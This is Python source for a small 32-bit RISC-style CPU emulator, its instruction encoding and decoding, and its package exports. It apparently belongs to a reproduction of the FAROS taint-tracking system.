class FlatMMU:
    """Identity mapping, used by unit tests and bare-metal snippets."""

    def translate(self, vaddr: int, access: AccessKind) -> int:
        return vaddr


@dataclass(frozen=True)
class MemoryAccess:
    """One data-memory access performed by an instruction.

    :ivar vaddr: guest virtual address of the first byte.
    :ivar paddrs: physical address of *each* byte (bytes of one access can
        span pages, so they need not be contiguous).
    :ivar value: the 32-bit (or zero-extended 8-bit) value moved.
    """

    vaddr: int
    paddrs: Tuple[int, ...]
    value: int

    @property
    def size(self) -> int:
        return len(self.paddrs)


@dataclass
class InstructionEffects:
    """Everything one executed instruction did, for instrumentation."""

    pc: int
    insn: Instruction
    next_pc: int
    fetch_paddrs: Tuple[int, ...]
    reads: List[MemoryAccess] = field(default_factory=list)
    writes: List[MemoryAccess] = field(default_factory=list)
    reg_written: Optional[Reg] = None
    regs_read: Tuple[Reg, ...] = ()
    flags_read: bool = False
    flags_written: bool = False
    branch_taken: Optional[bool] = None
    syscall: bool = False
    halted: bool = False


class CPU:
    """A single in-order core executing the :mod:`repro.isa` instruction set."""

    def __init__(self, memory: PhysicalMemory, mmu: Optional[MMU] = None) -> None:
        self.memory = memory
        self.mmu: MMU = mmu if mmu is not None else FlatMMU()
        self.regs = RegisterFile()
        self.pc = 0
        self.flag_z = False
        self.flag_n = False
        self.halted = False
        self.instret = 0  # retired-instruction counter (the machine's clock)

    # -- context switching -------------------------------------------------------

    def context(self) -> dict:
        """Capture the full architectural state (for scheduler switches)."""
        return {
            "regs": self.regs.snapshot(),
            "pc": self.pc,
            "flag_z": self.flag_z,
            "flag_n": self.flag_n,
            "halted": self.halted,
        }

    def restore_context(self, ctx: dict) -> None:
        """Restore state captured by :meth:`context`."""
        self.regs.restore(ctx["regs"])
        self.pc = ctx["pc"]
        self.flag_z = ctx["flag_z"]
        self.flag_n = ctx["flag_n"]
        self.halted = ctx["halted"]

    # -- memory helpers ----------------------------------------------------------

    def _translate_range(self, vaddr: int, n: int, access: AccessKind) -> Tuple[int, ...]:
        """Translate each byte of an *n*-byte access (handles page spans)."""
        return tuple(
            self.mmu.translate((vaddr + i) & MASK32, access) for i in range(n)
        )

    def _load(self, vaddr: int, n: int) -> Tuple[int, Tuple[int, ...]]:
        paddrs = self._translate_range(vaddr, n, AccessKind.READ)
        value = 0
        for i, paddr in enumerate(paddrs):
            value |= self.memory.read_byte(paddr) << (8 * i)
        return value, paddrs

    def _store(self, vaddr: int, n: int, value: int) -> Tuple[int, ...]:
        paddrs = self._translate_range(vaddr, n, AccessKind.WRITE)
        for i, paddr in enumerate(paddrs):
            self.memory.write_byte(paddr, (value >> (8 * i)) & 0xFF)
        return paddrs

    # -- execution ---------------------------------------------------------------

    def step(self) -> InstructionEffects:
        """Execute one instruction and return its effects.

        Guest faults (:class:`~repro.isa.errors.PageFault`,
        :class:`~repro.isa.errors.InvalidInstruction`) propagate to the
        caller; the architectural state is left at the faulting
        instruction so the kernel can report a precise crash address.
        """
        pc = self.pc
        fetch_paddrs = self._translate_range(pc, INSTRUCTION_SIZE, AccessKind.FETCH)
        raw = bytes(self.memory.read_byte(p) for p in fetch_paddrs)
        try:
            insn = decode(raw)
        except DecodeError as exc:
            raise InvalidInstruction(pc, str(exc)) from None

        effects = InstructionEffects(
            pc=pc,
            insn=insn,
            next_pc=(pc + INSTRUCTION_SIZE) & MASK32,
            fetch_paddrs=fetch_paddrs,
        )
        self._execute(insn, effects)
        self.pc = effects.next_pc
        self.instret += 1
        if effects.halted:
            self.halted = True
        return effects

    def _execute(self, insn: Instruction, fx: InstructionEffects) -> None:
        op = insn.op
        regs = self.regs

        if op is Op.NOP:
            return
        if op is Op.HLT:
            fx.halted = True
            return

        if op is Op.MOV:
            regs.write(insn.rd, regs.read(insn.rs1))
            fx.reg_written, fx.regs_read = insn.rd, (insn.rs1,)
            return
        if op is Op.MOVI:
            regs.write(insn.rd, insn.imm)
            fx.reg_written = insn.rd
            return

        if op is Op.LD or op is Op.LDB:
            vaddr = (regs.read(insn.rs1) + signed32(insn.imm)) & MASK32
            size = 4 if op is Op.LD else 1
            value, paddrs = self._load(vaddr, size)
            regs.write(insn.rd, value)
            fx.reads.append(MemoryAccess(vaddr, paddrs, value))
            fx.reg_written, fx.regs_read = insn.rd, (insn.rs1,)
            return
        if op is Op.ST or op is Op.STB:
            vaddr = (regs.read(insn.rs1) + signed32(insn.imm)) & MASK32
            size = 4 if op is Op.ST else 1
            value = regs.read(insn.rs2) & (MASK32 if size == 4 else 0xFF)
            paddrs = self._store(vaddr, size, value)
            fx.writes.append(MemoryAccess(vaddr, paddrs, value))
            fx.regs_read = (insn.rs1, insn.rs2)
            return
        if op is Op.PUSH:
            sp = (regs.read(Reg.SP) - 4) & MASK32
            value = regs.read(insn.rs1)
            paddrs = self._store(sp, 4, value)
            regs.write(Reg.SP, sp)
            fx.writes.append(MemoryAccess(sp, paddrs, value))
            fx.regs_read = (insn.rs1, Reg.SP)
            return
        if op is Op.POP:
            sp = regs.read(Reg.SP)
            value, paddrs = self._load(sp, 4)
            regs.write(insn.rd, value)
            regs.write(Reg.SP, (sp + 4) & MASK32)
            fx.reads.append(MemoryAccess(sp, paddrs, value))
            fx.reg_written, fx.regs_read = insn.rd, (Reg.SP,)
            return

        if op in REG_ALU_OPS:
            a, b = regs.read(insn.rs1), regs.read(insn.rs2)
            regs.write(insn.rd, _alu(op, a, b))
            fx.reg_written, fx.regs_read = insn.rd, (insn.rs1, insn.rs2)
            return
        if op in IMM_ALU_OPS:
            a = regs.read(insn.rs1)
            if op is Op.NOT:
                result = (~a) & MASK32
            else:
                result = _alu(_IMM_TO_REG[op], a, insn.imm)
            regs.write(insn.rd, result)
            fx.reg_written, fx.regs_read = insn.rd, (insn.rs1,)
            return

        if op is Op.CMP or op is Op.CMPI:
            a = regs.read(insn.rs1)
            b = regs.read(insn.rs2) if op is Op.CMP else insn.imm
            self.flag_z = (a & MASK32) == (b & MASK32)
            self.flag_n = signed32(a) < signed32(b)
            fx.flags_written = True
            fx.regs_read = (insn.rs1, insn.rs2) if op is Op.CMP else (insn.rs1,)
            return

        if op is Op.JMP:
            fx.next_pc = insn.imm & MASK32
            return
        if op in COND_BRANCH_OPS:
            taken = _branch_taken(op, self.flag_z, self.flag_n)
            fx.flags_read = True
            fx.branch_taken = taken
            if taken:
                fx.next_pc = insn.imm & MASK32
            return
        if op is Op.CALL:
            regs.write(Reg.LR, fx.next_pc)
            fx.next_pc = insn.imm & MASK32
            fx.reg_written = Reg.LR
            return
        if op is Op.CALLR:
            regs.write(Reg.LR, fx.next_pc)
            fx.next_pc = regs.read(insn.rs1)
            fx.reg_written = Reg.LR
            fx.regs_read = (insn.rs1,)
            return
        if op is Op.JMPR:
            fx.next_pc = regs.read(insn.rs1)
            fx.regs_read = (insn.rs1,)
            return
        if op is Op.RET:
            fx.next_pc = regs.read(Reg.LR)
            fx.regs_read = (Reg.LR,)
            return

        if op is Op.SYSCALL:
            fx.syscall = True
            return

        raise InvalidInstruction(fx.pc, f"unimplemented opcode {op!r}")  # pragma: no cover


    # ------------------------------------------------------------------
    # the uninstrumented fast path
    # ------------------------------------------------------------------

    def step_fast(self) -> InstructionEffects:
        """Execute one instruction WITHOUT building an effects trace.

        Semantically identical to :meth:`step` (same faults, same
        architectural results, same ``instret``), but skips per-byte
        address traces and effect records -- the analog of QEMU running
        translated code with no instrumentation.  The returned
        :class:`InstructionEffects` carries only the fields the machine
        loop consumes (``syscall``/``halted``); its memory-access lists
        are empty, so it must never be fed to analysis plugins.
        """
        pc = self.pc
        memory = self.memory
        mmu = self.mmu
        page_offset = pc & _PAGE_MASK
        if page_offset <= _FETCH_FAST_LIMIT:
            base = mmu.translate(pc, AccessKind.FETCH)
            raw = memory.read_bytes(base, INSTRUCTION_SIZE)
        else:
            raw = bytes(
                memory.read_byte(mmu.translate(pc + i, AccessKind.FETCH))
                for i in range(INSTRUCTION_SIZE)
            )
        try:
            insn = cached_decode(raw)
        except DecodeError as exc:
            raise InvalidInstruction(pc, str(exc)) from None

        fx = InstructionEffects(
            pc=pc,
            insn=insn,
            next_pc=(pc + INSTRUCTION_SIZE) & MASK32,
            fetch_paddrs=(),
        )
        self._execute_fast(insn, fx)
        self.pc = fx.next_pc
        self.instret += 1
        if fx.halted:
            self.halted = True
        return fx

    def _fast_load(self, vaddr: int, size: int) -> int:
        if (vaddr & _PAGE_MASK) <= PAGE_SIZE - size:
            paddr = self.mmu.translate(vaddr, AccessKind.READ)
            if size == 4:
                return self.memory.read_word(paddr)
            return self.memory.read_byte(paddr)
        value, _paddrs = self._load(vaddr, size)
        return value

    def _fast_store(self, vaddr: int, size: int, value: int) -> None:
        if (vaddr & _PAGE_MASK) <= PAGE_SIZE - size:
            paddr = self.mmu.translate(vaddr, AccessKind.WRITE)
            if size == 4:
                self.memory.write_word(paddr, value)
            else:
                self.memory.write_byte(paddr, value)
        else:
            self._store(vaddr, size, value)

    def _execute_fast(self, insn: Instruction, fx: InstructionEffects) -> None:
        op = insn.op
        regs = self.regs

        if op is Op.NOP:
            return
        if op is Op.HLT:
            fx.halted = True
            return
        if op is Op.MOV:
            regs.write(insn.rd, regs.read(insn.rs1))
            return
        if op is Op.MOVI:
            regs.write(insn.rd, insn.imm)
            return
        if op is Op.LD or op is Op.LDB:
            vaddr = (regs.read(insn.rs1) + signed32(insn.imm)) & MASK32
            regs.write(insn.rd, self._fast_load(vaddr, 4 if op is Op.LD else 1))
            return
        if op is Op.ST or op is Op.STB:
            vaddr = (regs.read(insn.rs1) + signed32(insn.imm)) & MASK32
            size = 4 if op is Op.ST else 1
            self._fast_store(vaddr, size, regs.read(insn.rs2) & (MASK32 if size == 4 else 0xFF))
            return
        if op is Op.PUSH:
            sp = (regs.read(Reg.SP) - 4) & MASK32
            self._fast_store(sp, 4, regs.read(insn.rs1))
            regs.write(Reg.SP, sp)
            return
        if op is Op.POP:
            sp = regs.read(Reg.SP)
            regs.write(insn.rd, self._fast_load(sp, 4))
            regs.write(Reg.SP, (sp + 4) & MASK32)
            return
        if op in REG_ALU_OPS:
            regs.write(insn.rd, _alu(op, regs.read(insn.rs1), regs.read(insn.rs2)))
            return
        if op in IMM_ALU_OPS:
            a = regs.read(insn.rs1)
            if op is Op.NOT:
                regs.write(insn.rd, (~a) & MASK32)
            else:
                regs.write(insn.rd, _alu(_IMM_TO_REG[op], a, insn.imm))
            return
        if op is Op.CMP or op is Op.CMPI:
            a = regs.read(insn.rs1)
            b = regs.read(insn.rs2) if op is Op.CMP else insn.imm
            self.flag_z = (a & MASK32) == (b & MASK32)
            self.flag_n = signed32(a) < signed32(b)
            return
        if op is Op.JMP:
            fx.next_pc = insn.imm & MASK32
            return
        if op in COND_BRANCH_OPS:
            if _branch_taken(op, self.flag_z, self.flag_n):
                fx.next_pc = insn.imm & MASK32
            return
        if op is Op.CALL:
            regs.write(Reg.LR, fx.next_pc)
            fx.next_pc = insn.imm & MASK32
            return
        if op is Op.CALLR:
            regs.write(Reg.LR, fx.next_pc)
            fx.next_pc = regs.read(insn.rs1)
            return
        if op is Op.JMPR:
            fx.next_pc = regs.read(insn.rs1)
            return
        if op is Op.RET:
            fx.next_pc = regs.read(Reg.LR)
            return
        if op is Op.SYSCALL:
            fx.syscall = True
            return
        raise InvalidInstruction(fx.pc, f"unimplemented opcode {op!r}")  # pragma: no cover


_IMM_TO_REG = {
    Op.ADDI: Op.ADD,
    Op.SUBI: Op.SUB,
    Op.MULI: Op.MUL,
    Op.ANDI: Op.AND,
    Op.ORI: Op.OR,
    Op.XORI: Op.XOR,
    Op.SHLI: Op.SHL,
    Op.SHRI: Op.SHR,
}


def _alu(op: Op, a: int, b: int) -> int:
    if op is Op.ADD:
        return (a + b) & MASK32
    if op is Op.SUB:
        return (a - b) & MASK32
    if op is Op.MUL:
        return (a * b) & MASK32
    if op is Op.AND:
        return a & b & MASK32
    if op is Op.OR:
        return (a | b) & MASK32
    if op is Op.XOR:
        return (a ^ b) & MASK32
    if op is Op.SHL:
        return (a << (b & 31)) & MASK32
    if op is Op.SHR:
        return (a & MASK32) >> (b & 31)
    raise AssertionError(f"not an ALU op: {op!r}")  # pragma: no cover


def _branch_taken(op: Op, z: bool, n: bool) -> bool:
    if op is Op.JZ:
        return z
    if op is Op.JNZ:
        return not z
    if op is Op.JLT:
        return n
    if op is Op.JGE:
        return not n
    if op is Op.JLE:
        return z or n
    if op is Op.JGT:
        return not z and not n
    raise AssertionError(f"not a branch op: {op!r}")  # pragma: no cover
