"""A small 32-bit RISC-style instruction-set architecture.

This package is the lowest substrate of the FAROS reproduction: it provides
the CPU, physical memory, instruction encoding, and assembler on which the
whole-system emulator (:mod:`repro.emulator`) and the guest operating system
(:mod:`repro.guestos`) are built.

The design goal mirrors what matters to whole-system DIFT: guest programs
exist as *real encoded instruction bytes in guest memory*.  The CPU fetches
and decodes from memory on every step, so a taint engine observing execution
can inspect the provenance of the bytes that make up each executed
instruction -- which is exactly the signal FAROS' detection invariant uses.

Public surface:

* :class:`~repro.isa.registers.Reg` and :class:`~repro.isa.registers.RegisterFile`
* :class:`~repro.isa.memory.PhysicalMemory` and
  :class:`~repro.isa.memory.FrameAllocator`
* :class:`~repro.isa.instructions.Op`, :class:`~repro.isa.instructions.Instruction`,
  :func:`~repro.isa.instructions.encode`, :func:`~repro.isa.instructions.decode`
* :func:`~repro.isa.assembler.assemble`
* :class:`~repro.isa.cpu.CPU`
"""

from repro.isa.assembler import AssemblerError, assemble
from repro.isa.cpu import CPU, AccessKind, InstructionEffects, MemoryAccess
from repro.isa.errors import (
    DecodeError,
    GuestFault,
    InvalidInstruction,
    IsaError,
    PageFault,
    PhysicalMemoryError,
)
from repro.isa.instructions import INSTRUCTION_SIZE, Instruction, Op, decode, encode
from repro.isa.memory import FrameAllocator, PhysicalMemory
from repro.isa.registers import NUM_REGS, Reg, RegisterFile

__all__ = [
    "AccessKind",
    "AssemblerError",
    "CPU",
    "DecodeError",
    "FrameAllocator",
    "GuestFault",
    "INSTRUCTION_SIZE",
    "Instruction",
    "InstructionEffects",
    "InvalidInstruction",
    "IsaError",
    "MemoryAccess",
    "NUM_REGS",
    "Op",
    "PageFault",
    "PhysicalMemory",
    "PhysicalMemoryError",
    "Reg",
    "RegisterFile",
    "assemble",
    "decode",
    "encode",
]
