"""Instruction set, encoding, and decoding.

Every instruction occupies exactly :data:`INSTRUCTION_SIZE` (8) bytes in
guest memory:

====== ======================================================
byte   meaning
====== ======================================================
0      opcode (:class:`Op`)
1      ``rd``  -- destination register index
2      ``rs1`` -- first source register index
3      ``rs2`` -- second source register index
4-7    ``imm`` -- 32-bit little-endian immediate
====== ======================================================

Unused fields must be zero; the decoder does not enforce this (real
hardware would not), but the assembler always emits canonical encodings.

The fixed width keeps the fetch/decode path trivial and -- more
importantly for this reproduction -- makes "the bytes of the executed
instruction" a well-defined 8-byte physical range whose shadow provenance
FAROS can inspect on every step.
"""

from __future__ import annotations

import enum
import struct
from dataclasses import dataclass
from typing import Optional

from repro.isa.errors import DecodeError
from repro.isa.registers import NUM_REGS, Reg

INSTRUCTION_SIZE = 8

_ENC = struct.Struct("<BBBBI")


class Op(enum.IntEnum):
    """Opcodes, grouped by function.

    The split between register (``ADD``) and immediate (``ADDI``) forms
    matters to the taint engine: register forms *union* the provenance of
    both sources, immediate forms *copy* the provenance of the single
    register source, and pure-immediate loads (``MOVI``) *delete*
    provenance (Table I of the paper).
    """

    NOP = 0x00
    HLT = 0x01

    # data movement
    MOV = 0x10   # rd <- rs1
    MOVI = 0x11  # rd <- imm
    LD = 0x12    # rd <- mem32[rs1 + imm]
    ST = 0x13    # mem32[rs1 + imm] <- rs2
    LDB = 0x14   # rd <- mem8[rs1 + imm] (zero-extended)
    STB = 0x15   # mem8[rs1 + imm] <- rs2 & 0xff
    PUSH = 0x16  # sp -= 4; mem32[sp] <- rs1
    POP = 0x17   # rd <- mem32[sp]; sp += 4

    # arithmetic / logic (register forms)
    ADD = 0x20   # rd <- rs1 + rs2
    SUB = 0x21
    MUL = 0x22
    AND = 0x23
    OR = 0x24
    XOR = 0x25
    SHL = 0x26   # rd <- rs1 << (rs2 & 31)
    SHR = 0x27   # rd <- rs1 >> (rs2 & 31)  (logical)

    # arithmetic / logic (immediate forms)
    ADDI = 0x30  # rd <- rs1 + imm
    SUBI = 0x31
    MULI = 0x32
    ANDI = 0x33
    ORI = 0x34
    XORI = 0x35
    SHLI = 0x36
    SHRI = 0x37
    NOT = 0x38   # rd <- ~rs1

    # comparison / control flow
    CMP = 0x40   # flags <- compare(rs1, rs2)
    CMPI = 0x41  # flags <- compare(rs1, imm)
    JMP = 0x42   # pc <- imm
    JZ = 0x43    # if Z:  pc <- imm
    JNZ = 0x44   # if !Z: pc <- imm
    JLT = 0x45   # if N:  pc <- imm (signed less-than after CMP)
    JGE = 0x46   # if !N: pc <- imm
    JLE = 0x47   # if Z or N
    JGT = 0x48   # if !Z and !N
    CALL = 0x49  # lr <- pc + 8; pc <- imm
    CALLR = 0x4A # lr <- pc + 8; pc <- rs1   (indirect call through register)
    JMPR = 0x4B  # pc <- rs1                 (indirect jump)
    RET = 0x4C   # pc <- lr

    # system
    SYSCALL = 0x50  # trap to kernel; number in r0, args in r1..r5


# Opcode groups the CPU and taint engine dispatch on.
REG_ALU_OPS = frozenset({Op.ADD, Op.SUB, Op.MUL, Op.AND, Op.OR, Op.XOR, Op.SHL, Op.SHR})
IMM_ALU_OPS = frozenset(
    {Op.ADDI, Op.SUBI, Op.MULI, Op.ANDI, Op.ORI, Op.XORI, Op.SHLI, Op.SHRI, Op.NOT}
)
COND_BRANCH_OPS = frozenset({Op.JZ, Op.JNZ, Op.JLT, Op.JGE, Op.JLE, Op.JGT})
LOAD_OPS = frozenset({Op.LD, Op.LDB, Op.POP})
STORE_OPS = frozenset({Op.ST, Op.STB, Op.PUSH})

_VALID_OPCODES = {int(op) for op in Op}


@dataclass(frozen=True)
class Instruction:
    """A decoded instruction.

    ``rd``/``rs1``/``rs2`` are :class:`Reg` values even when the opcode
    ignores them (they decode as ``R0``); consumers must dispatch on
    :attr:`op` to know which fields are live.
    """

    op: Op
    rd: Reg = Reg.R0
    rs1: Reg = Reg.R0
    rs2: Reg = Reg.R0
    imm: int = 0

    def __str__(self) -> str:
        return format_instruction(self)


def encode(insn: Instruction) -> bytes:
    """Encode *insn* into its canonical 8-byte form."""
    return _ENC.pack(insn.op, insn.rd, insn.rs1, insn.rs2, insn.imm & 0xFFFFFFFF)


def decode(data: bytes, offset: int = 0) -> Instruction:
    """Decode 8 bytes at *offset* in *data* into an :class:`Instruction`.

    Raises :class:`DecodeError` for undefined opcodes or register indices;
    the CPU converts that into a guest-visible
    :class:`~repro.isa.errors.InvalidInstruction` fault at fetch time.
    """
    if offset + INSTRUCTION_SIZE > len(data):
        raise DecodeError(f"truncated instruction at offset {offset}")
    opcode, rd, rs1, rs2, imm = _ENC.unpack_from(data, offset)
    if opcode not in _VALID_OPCODES:
        raise DecodeError(f"undefined opcode {opcode:#04x}")
    if rd >= NUM_REGS or rs1 >= NUM_REGS or rs2 >= NUM_REGS:
        raise DecodeError(f"register index out of range in {data[offset:offset+8]!r}")
    return Instruction(Op(opcode), Reg(rd), Reg(rs1), Reg(rs2), imm)


def format_instruction(insn: Instruction) -> str:
    """Render *insn* in assembler syntax (best-effort, for reports/debugging)."""
    op = insn.op
    name = op.name.lower()
    if op in (Op.NOP, Op.HLT, Op.RET, Op.SYSCALL):
        return name
    if op is Op.MOV:
        return f"{name} {insn.rd.name.lower()}, {insn.rs1.name.lower()}"
    if op is Op.MOVI:
        return f"{name} {insn.rd.name.lower()}, {insn.imm:#x}"
    if op is Op.LD or op is Op.LDB:
        return f"{name} {insn.rd.name.lower()}, [{insn.rs1.name.lower()}+{insn.imm:#x}]"
    if op is Op.ST or op is Op.STB:
        return f"{name} [{insn.rs1.name.lower()}+{insn.imm:#x}], {insn.rs2.name.lower()}"
    if op is Op.PUSH:
        return f"{name} {insn.rs1.name.lower()}"
    if op is Op.POP:
        return f"{name} {insn.rd.name.lower()}"
    if op in REG_ALU_OPS:
        return (
            f"{name} {insn.rd.name.lower()}, "
            f"{insn.rs1.name.lower()}, {insn.rs2.name.lower()}"
        )
    if op is Op.NOT:
        return f"{name} {insn.rd.name.lower()}, {insn.rs1.name.lower()}"
    if op in IMM_ALU_OPS:
        return f"{name} {insn.rd.name.lower()}, {insn.rs1.name.lower()}, {insn.imm:#x}"
    if op is Op.CMP:
        return f"{name} {insn.rs1.name.lower()}, {insn.rs2.name.lower()}"
    if op is Op.CMPI:
        return f"{name} {insn.rs1.name.lower()}, {insn.imm:#x}"
    if op in COND_BRANCH_OPS or op in (Op.JMP, Op.CALL):
        return f"{name} {insn.imm:#x}"
    if op in (Op.CALLR, Op.JMPR):
        return f"{name} {insn.rs1.name.lower()}"
    return name  # pragma: no cover - all ops handled above


def signed32(value: int) -> int:
    """Interpret a 32-bit value as signed."""
    value &= 0xFFFFFFFF
    return value - 0x100000000 if value & 0x80000000 else value


def make(op: Op, rd: Optional[Reg] = None, rs1: Optional[Reg] = None,
         rs2: Optional[Reg] = None, imm: int = 0) -> Instruction:
    """Convenience constructor with defaulted register fields."""
    return Instruction(op, rd or Reg.R0, rs1 or Reg.R0, rs2 or Reg.R0, imm)
